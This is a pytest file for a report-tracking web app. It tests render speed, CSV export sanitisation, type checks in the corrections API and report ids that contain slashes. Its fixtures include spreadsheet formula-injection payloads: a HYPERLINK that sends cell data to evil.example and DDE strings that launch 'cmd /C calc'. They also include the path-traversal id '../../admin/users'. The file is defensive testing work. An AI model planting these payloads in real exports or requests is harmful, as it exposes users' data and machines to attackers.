"""Reliability of the web app, second pass (issue 23, the web side): each test is an
attack or a fault that an outside run found, and failed before its fix.

The reports are written here (none comes from the shared data); records are made by
hand and stored with ``store.save_records``, as in ``test_web_security.py``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path
from urllib.parse import quote, urljoin

import pytest
from fastapi.testclient import TestClient

from tumen.export import export
from tumen.ingest import ingest
from tumen.store import open_store
from tumen.web import auth
from tumen.web.app import create_app

PASSWORDS = {"vic": "Vic-pass-7731", "ed": "Ed-pass-5519", "ada": "Ada-pass-0284"}
ROLES = {"vic": "viewer", "ed": "editor", "ada": "admin"}
PARA = ("Traders in Hyesan said that officers of the Ministry of State Security searched "
        "homes near the market in March 2024 and took away two phones. ")
FORMULA_TITLES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SLASH_IDS = ["https://news.example/2024/03/item-7", "../../admin/users", "a/b/correct",
             "plain-id"]


def _reports() -> list[dict]:
    out = [{"id": rid, "title": f"Report {k} with a slash id", "published": "2024-03-02",
            "body": f"{PARA} Item {k}: the search lasted until the evening."}
           for k, rid in enumerate(SLASH_IDS)]
    out += [{"id": f"formula-{k}", "title": title, "published": "2024-03-03",
             "source": title, "body": f"{PARA} Formula item {k} was reported twice."}
            for k, title in enumerate(FORMULA_TITLES)]
    return out


def _record(report) -> dict:
    body = report.body
    at = body.find("Hyesan")
    ev = body.find("officers")
    return {"id": report.id, "title": report.title, "published": report.published,
            "source": report.source, "url": report.url, "tags": ["house search"],
            "places": [{"id": "hyesan", "name": "Hyesan", "kind": "city",
                        "province": "Ryanggang",
                        "mentions": [{"text": "Hyesan", "start": at, "end": at + 6}]}],
            "organizations": [], "laws": [], "dates": [],
            "incidents": [{"type": "house_search", "actor": report.title, "target": "homes",
                           "place": "Hyesan", "province": "Ryanggang", "date": "2024-03",
                           "date_precision": "month", "penalty": None,
                           "evidence": {"text": body[ev:ev + 60], "start": ev, "end": ev + 60}}]}


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("webrel")
    path = root / "store.db"
    src = root / "reports.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _reports()), encoding="utf-8")
    with open_store(path) as store:
        summary = ingest(store, [src], parallel=False)
        assert summary.result.added == len(_reports()), summary.result.failed
        store.save_records([_record(r) for r in store.iter_reports()])
    for name, role in ROLES.items():
        auth.add_user(str(path), name, role, PASSWORDS[name])
    return path


def _csrf(client: TestClient, path: str = "/login") -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).text)
    assert match, path
    return match.group(1)


def login(client: TestClient, name: str, password: str | None = None):
    return client.post("/login", data={"csrf_token": _csrf(client), "name": name,
                                       "password": password or PASSWORDS[name], "next": "/"},
                       follow_redirects=False)


@pytest.fixture(scope="module")
def app(db):
    return create_app(str(db), require_login=True)


@pytest.fixture(scope="module")
def editor(app):
    with TestClient(app, client=("10.1.0.2", 1000)) as c:
        assert login(c, "ed").status_code == 303
        c.headers["X-CSRF-Token"] = c.get("/api/me").json()["csrf_token"]
        yield c


# -- 3c: the report page is linear in the size of the report ---------------------------
def _big_report(store, rid: str, copies: int) -> None:
    from tumen.record import Report

    body = PARA * copies
    store.add_reports([Report(id=rid, body=body, title=f"big {copies}")])
    body = store.get_report(rid).body
    mentions = lambda word: [{"text": word, "start": m.start(), "end": m.end()}  # noqa: E731
                             for m in re.finditer(re.escape(word), body)]
    store.save_records([{
        "id": rid, "title": f"big {copies}", "published": None, "source": None, "url": None,
        "tags": [], "places": [{"id": "h", "name": "Hyesan", "kind": "city",
                                "province": "Ryanggang", "mentions": mentions("Hyesan")}],
        "organizations": [{"id": "m", "name": "Ministry of State Security",
                           "mentions": mentions("Ministry of State Security")}],
        "laws": [], "dates": [{"text": "March 2024", "value": "2024-03", "start": m["start"],
                               "end": m["end"]} for m in mentions("March 2024")],
        "incidents": [{"type": "house_search", "actor": None, "target": None, "place": None,
                       "date": None, "date_precision": None, "penalty": None,
                       "evidence": {"text": m["text"], "start": m["start"], "end": m["end"]}}
                      for m in mentions("searched")[:40]]}])


def _best_of(n: int, fn) -> float:
    """The least CPU time of ``n`` runs (CPU time of this process, all threads: the
    test client runs the app in a thread; other jobs on the machine count less)."""
    times = []
    for _ in range(n):
        start = time.process_time()
        fn()
        times.append(time.process_time() - start)
    return min(times)


def test_report_page_time_grows_linearly_with_the_report(tmp_path):
    path = tmp_path / "big.db"
    with open_store(path) as store:
        _big_report(store, "big-1", 700)   # ~100,000 characters, ~2,800 marks
        _big_report(store, "big-2", 1400)  # twice that
    with TestClient(create_app(str(path))) as client:
        for rid in ("big-1", "big-2"):
            response = client.get(f"/api/reports/{rid}")
            assert response.status_code == 200
            assert len(response.json()["segments"]) > 4 * 700
        one = _best_of(5, lambda: client.get("/api/reports/big-1"))
        two = _best_of(5, lambda: client.get("/api/reports/big-2"))
        # linear: x2 (quadratic, before: x4)
        assert two / one < 3.0, (one, two)
        one = _best_of(5, lambda: client.get("/reports/big-1"))
        two = _best_of(5, lambda: client.get("/reports/big-2"))
        assert two / one < 3.0, (one, two)


# -- 12: CSV formula injection -------------------------------------------------------
def _assert_inert(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_exports_neutralize_formulas(editor, db, tmp_path):
    text = editor.get("/api/export.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = {r["report_id"]: r for r in rows if r["report_id"].startswith("formula-")}
    assert len(titles) == len(FORMULA_TITLES)
    for row in rows:
        _assert_inert(list(row.values()))
    stored = [editor.get(f"/api/reports/formula-{k}").json()["report"]["title"]
              for k in range(len(FORMULA_TITLES))]
    assert all(t.startswith(("=", "+", "-", "@")) for t in stored), stored
    for k, title in enumerate(stored):
        assert titles[f"formula-{k}"]["title"] == "'" + title  # OWASP: a leading quote
        assert titles[f"formula-{k}"]["actor"] == "'" + title
    # the CLI's export goes through the same writer
    out = tmp_path / "reports.csv"
    with open_store(db) as store:
        export(store, "csv", out)
        export(store, "csv", tmp_path / "records.csv", records=True)
    for name in ("reports.csv", "records.csv"):
        with open(tmp_path / name, encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert any(r["title"] == "'" + stored[0] for r in rows), name
        for row in rows:
            _assert_inert([v for v in row.values() if v])
    # JSON Lines keeps the titles as they are
    lines = [json.loads(x) for x in editor.get("/api/export.jsonl").text.splitlines()]
    assert {x["title"] for x in lines} >= set(stored)


# -- 13: corrections API with values of the wrong type --------------------------------
@pytest.mark.parametrize("changes", [{"target": 5}, {"target": ["a", "b"]}, {"place": True},
                                     {"actor": {"x": 1}}, {"tags": [1, 2]}, [1, 2], "x"])
def test_corrections_api_refuses_values_of_the_wrong_type(editor, changes):
    key = editor.get("/api/reports/formula-0").json()["record"]["incidents"][0]["key"]
    for action in ("edit", "add", "tags"):
        response = editor.post("/api/reports/formula-0/corrections",
                               json={"action": action, "key": key, "changes": changes,
                                     "evidence": "officers of the Ministry"})
        assert response.status_code in (400, 422), (action, changes, response.text)
        assert "error" in response.json()
    for body in ({"action": 5}, {"action": "edit", "key": 7}, {"action": "add", "evidence": []}):
        response = editor.post("/api/reports/formula-0/corrections", json=body)
        assert response.status_code in (400, 422), (body, response.text)


def test_corrections_api_still_takes_strings_and_tag_lists(editor):
    key = editor.get("/api/reports/formula-1").json()["record"]["incidents"][0]["key"]
    response = editor.post("/api/reports/formula-1/corrections",
                           json={"action": "edit", "key": key, "changes": {"target": "phones"}})
    assert response.status_code == 200, response.text
    response = editor.post("/api/reports/formula-1/corrections",
                           json={"action": "tags", "changes": {"tags": ["phones", "search"]}})
    assert response.status_code == 200, response.text
    assert response.json()["report"]["record"]["tags"] == ["phones", "search"]


# -- 14: ids with "/" ------------------------------------------------------------------
def test_ids_with_slashes_are_reachable_and_links_stay_on_them(editor):
    page = editor.get("/", params={"q": "slash"})
    assert page.status_code == 200
    hrefs = re.findall(r'<a class="title" href="([^"]+)"', page.text)
    assert len(hrefs) == len(SLASH_IDS), hrefs
    base = "http://testserver/"
    for href in hrefs:
        assert urljoin(base, href).startswith(base + "reports/"), href  # no retargeting
        assert href.count("/") == 2, href  # "/reports/" + one segment
    for rid in SLASH_IDS:
        href = next(h for h in hrefs if h == "/reports/" + quote(rid, safe=""))
        report = editor.get(href)
        assert report.status_code == 200, (rid, report.status_code)
        assert "<code>" + rid + "</code>" in report.text
        api = editor.get("/api/reports/" + href.split("/reports/", 1)[1])
        assert api.status_code == 200 and api.json()["report"]["id"] == rid
        form = editor.get(href + "/correct")
        assert form.status_code == 200 and 'action="' + href + '/corrections"' in form.text
        key = api.json()["record"]["incidents"][0]["key"]
        fixed = editor.post(href + "/corrections", follow_redirects=False,
                            data={"csrf_token": editor.headers["X-CSRF-Token"],
                                  "action": "edit", "key": key, "penalty": "a fine"})
        assert fixed.status_code == 303, (rid, fixed.text[:300])
        assert fixed.headers["location"] == href + "#incidents"
        again = editor.get("/api/reports/" + href.split("/reports/", 1)[1]).json()
        assert again["record"]["incidents"][0]["penalty"] == "a fine"
